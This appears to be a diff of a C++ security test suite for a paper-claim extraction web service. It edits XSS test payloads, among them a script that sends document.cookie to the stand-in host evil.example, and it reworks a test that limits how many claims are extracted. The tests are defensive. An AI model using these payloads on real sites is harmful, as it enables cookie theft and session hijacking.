@@ -38,7 +38,7 @@ constexpr char kAdminKey[] = "sec-test-admin-key-7f3a9c21d4e8b6a05f1e";
 constexpr char kHostileTitle[] = "Graph <script>alert('t')</script> Networks \"><img src=x onerror=alert(1)>";
 constexpr char kHostileAbstract[] =
     "We propose semi-supervised node classification with graph convolutional networks "
-    "<script>document.location='http://evil.example/'+document.cookie</script> and an "
+    "<script>document.location='//evil.example/'+document.cookie</script> and an "
     "attribute breaker \" onmouseover=\"alert(2)\" x=\" on citation networks. "
     "Our method is the first to scale linearly in the number of graph edges.";
 constexpr char kCorpusHostileTitle[] = "Semi-Supervised <svg onload=alert(3)> Graph Convolutional Node Classification";
@@ -270,11 +270,16 @@ TEST_F(SecurityTest, JsonDepthIsLimited) {
 }
 
 TEST_F(SecurityTest, ClaimCountIsLimited) {
-  // Hundreds of claim-like sentences: the extractor keeps at most max_claims.
+  // Hundreds of distinct claim-like sentences: the extractor keeps at most max_claims.
   std::string abstract;
+  auto word = [](int i) {
+    std::string w;
+    for (int k = 0; k < 3; ++k, i /= 26) w += static_cast<char>('a' + i % 26);
+    return w + "ality";
+  };
   for (int i = 0; i < 300; ++i) {
-    abstract += "We propose method number " + std::to_string(i) + " that outperforms baseline " +
-                std::to_string(i) + " by " + std::to_string(i % 50 + 1) + " points. ";
+    abstract += "We propose the " + word(i) + " estimator for " + word(i + 300) + " graphs with " +
+                word(i + 600) + " kernels. ";
   }
   Json sub = {{"title", "Many claims"}, {"abstract", abstract.substr(0, 19000)}};
   HttpResponse r = Call("POST", "/v1/claims", DumpJson(sub));
